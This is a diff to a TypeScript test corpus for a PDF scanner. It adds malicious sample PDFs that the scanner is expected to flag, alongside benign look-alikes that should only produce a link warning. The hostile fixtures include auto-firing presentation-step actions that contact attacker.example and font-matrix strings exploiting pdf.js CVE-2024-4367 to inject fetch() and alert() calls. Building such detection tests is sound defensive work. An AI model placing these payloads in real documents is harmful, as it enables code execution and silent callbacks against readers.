@@ -229,6 +229,14 @@ const PDF_CLASSES: PdfClass[] = [
       { num: n, body: '<< /FT /Btn /T (load) /A << /S /ImportData /F (\\\\\\\\attacker.example\\\\x.fdf) >> >>' },
     ],
   },
+  // Round 12: a presentation step's next action, run by itself after /Dur in full-screen mode.
+  {
+    id: 'presteps-uri',
+    expect: 'PDF_ACTION',
+    catalog: '/PageMode /FullScreen',
+    page: '/PresSteps << /Type /NavNode /NA 6 0 R /Dur 0 >>',
+    extra: (n) => [{ num: n, body: '<< /S /URI /URI (http://attacker.example/step) >>' }],
+  },
 ];
 
 type Placement = 'plain' | 'escaped' | 'incremental' | 'middle' | `objstm-${Exclude<Packing, 'none'>}`;
@@ -887,6 +895,45 @@ const huntedPdfs: CorpusItem[] = [
     buildClassicPdf([
       ...pageObjects('', '/Annots [6 0 R]'),
       { num: 6, body: `<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F ${UNC_FILE} >> /A true >>` },
+    ]),
+  ),
+  // Round 12, from the public catalogues. A presentation step's action runs as the step advances,
+  // by itself after /Dur: a web /URI or a /GoToR there was only a link warning.
+  hunted('pdf-presteps-next-action-web-uri', 'PDF_ACTION', () =>
+    buildClassicPdf(
+      pageObjects(
+        '/PageMode /FullScreen',
+        '/PresSteps << /Type /NavNode /NA << /S /URI /URI (http://attacker.example/step) >> /Dur 0 >>',
+      ),
+    ),
+  ),
+  hunted('pdf-presteps-previous-action-gotor-packed', 'PDF_ACTION', () =>
+    buildPdf(
+      [
+        ...pageObjects('/PageMode /FullScreen', '/PresSteps 6 0 R'),
+        { num: 6, body: '<< /NA << /S /SetOCGState /State [] >> /Next 7 0 R /Dur 1 >>' },
+        { num: 7, body: '<< /PA << /S /GoToR /F (http://attacker.example/x.pdf) /D [0 /Fit] >> /Prev 6 0 R >>' },
+      ],
+      { packed: [3, 6, 7] },
+    ),
+  ),
+  // A font matrix holding a string: pdf.js before 4.2.67 compiled it into glyph code (CVE-2024-4367).
+  hunted('pdf-font-matrix-string', 'PDF_SCRIPT', () =>
+    buildClassicPdf([
+      ...pageObjects().filter((o) => o.num !== 5),
+      {
+        num: 5,
+        body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); fetch\\("http://attacker.example/"\\))] >>',
+      },
+    ]),
+  ),
+  hunted('pdf-type3-font-matrix-by-reference-update', 'PDF_SCRIPT', () =>
+    incrementalUpdate(buildClassicPdf(pageObjects()), [
+      {
+        num: 5,
+        body: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix 6 0 R /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>',
+      },
+      { num: 6, body: '[0.001 0 0 0.001 0 (0\\); alert\\(1\\))]' },
     ]),
   ),
 ];
@@ -3114,6 +3161,38 @@ export const ACTIVE_GENUINE: readonly {
     id: 'pdf-link-uri-web-with-tab-inside',
     declared: 'pdf',
     bytes: async () => buildPdf(linkAnnotations('<< /S /URI /URI (https://exa\\tmple.cn/x) >>')),
+    warning: 'EXTERNAL_LINK',
+  },
+  // Round 12: sub-page navigation that shows and hides layers step by step, a Type 3 font's matrix
+  // of numbers (an exponent too, which pdf.js reads), and a Web Capture link's saved address (/PA).
+  {
+    id: 'pdf-presteps-subpage-navigation',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf(
+        pageObjects(
+          '/PageMode /FullScreen',
+          '/PresSteps << /Type /NavNode /NA << /S /SetOCGState /State [/ON 9 0 R] /Next << /S /Trans /Trans << /S /Dissolve >> >> >> /PA << /S /SetOCGState /State [/OFF 9 0 R] >> /Dur 3 >>',
+        ),
+      ),
+  },
+  {
+    id: 'pdf-type3-font-matrix-numbers',
+    declared: 'pdf',
+    bytes: async () =>
+      buildClassicPdf([
+        ...pageObjects().filter((o) => o.num !== 5),
+        {
+          num: 5,
+          body: '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [.001 0 0 0.001 0 1E-3] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>',
+        },
+      ]),
+  },
+  {
+    id: 'pdf-link-web-capture-saved-uri',
+    declared: 'pdf',
+    bytes: async () =>
+      buildPdf(linkAnnotations('<< /S /GoTo /D [3 0 R /Fit] >> /PA << /S /URI /URI (https://www.miit.gov.cn/) >>')),
     warning: 'EXTERNAL_LINK',
   },
   // A picture that is a link when clicked: its click (`a:hlinkClick`) keeps the hyperlink's warning (round 9).
